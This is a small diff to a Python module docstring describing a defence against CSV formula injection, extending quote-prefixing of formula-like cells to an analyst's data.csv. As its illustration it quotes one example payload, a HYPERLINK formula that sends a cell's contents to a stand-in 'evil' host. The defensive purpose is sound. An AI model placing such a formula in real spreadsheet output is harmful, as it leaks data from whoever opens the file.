@@ -3,8 +3,9 @@
 Excel, LibreOffice and Google Sheets treat a cell starting with ``=``, ``+``, ``-`` or ``@`` (and, in
 some versions, a leading tab or carriage return) as a formula, so a value such as
 ``=HYPERLINK("http://evil/?"&A1)`` in a CSV we write would run when someone opens it. Every CSV the
-pipeline writes for people goes through ``neutralize``; the analyst's own ``data.csv`` does not, since
-code reads it, not a spreadsheet.
+pipeline writes for people goes through ``neutralize``, and so does the analyst's ``data.csv``:
+``Table.to_clean_csv`` prefixes formula-like text cells with ``'``, so analyst code sees ``'=1+2`` where
+the file had ``=1+2`` (``Table.frame`` keeps the original text; numbers, dates and flags are untouched).
 """
 
 from __future__ import annotations
